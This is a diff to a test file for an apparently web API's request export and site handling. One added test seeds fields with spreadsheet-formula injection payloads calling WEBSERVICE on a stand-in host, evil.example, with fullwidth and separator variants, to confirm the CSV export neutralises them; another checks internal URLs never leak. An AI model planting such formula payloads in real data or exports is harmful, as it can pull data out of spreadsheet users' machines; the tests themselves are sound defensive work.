@@ -252,6 +252,48 @@ it('A18 a list of requests runs nothing in a spreadsheet', async () => {
   expect(body).not.toMatch(/(^|,)"?[=+\-@\t\r]/m)
 })
 
+it('A76 nor does one with fullwidth signs, other separators, or blanks before either', async () => {
+  const starts = ['\uff1d', '\uff0b', '\uff0d', '\uff20', ';', '|', ' =', '\u3000=', ' ;', '\ufeff=']
+  for (const start of starts)
+    await requestIn('queued', database.requests, { subjectId: `${start}WEBSERVICE("https://evil.example")` })
+  const { body } = await api.inject({
+    url: '/requests.csv',
+    headers: as(person(), { roles: ['System Manager'] }),
+  })
+  expect(body.match(/"'[^"]*WEBSERVICE/g)).toHaveLength(starts.length * 2)
+})
+
+it('A77 where a site is inside the network is told to nobody, whatever site a stranger names', async () => {
+  const sites = new Map(
+    ['globex', 'acme'].map((name) => [
+      name,
+      { name, baseUrl: `http://${name}.internal:8000`, hosts: [`${name}.example`] },
+    ]),
+  )
+  const behind = await buildApiOnTable(database, { deps: { sites }, settings: { docs: true } })
+  const strange = [
+    {},
+    { 'x-frappe-site-name': 'acme' },
+    { host: 'globex.example' },
+    { 'x-frappe-site-name': 'x' },
+  ]
+  for (const headers of strange)
+    for (const url of [
+      '/request-data',
+      '/requests',
+      '/request-data/confirm',
+      '/v1/export-requests',
+      '/docs/json',
+      '/x',
+    ]) {
+      const { body, headers: sent } = await behind.inject({ url, headers })
+      expect(body + JSON.stringify(sent)).not.toContain('internal')
+    }
+  const page = await behind.inject({ url: '/request-data', headers: { 'x-frappe-site-name': 'acme' } })
+  expect(page.body).toContain('href="/login?redirect-to=/request-data"')
+  await behind.close()
+})
+
 it('A24 a thousand requests of one person at once are one row', async () => {
   const owner = person()
   const headers = as(owner)
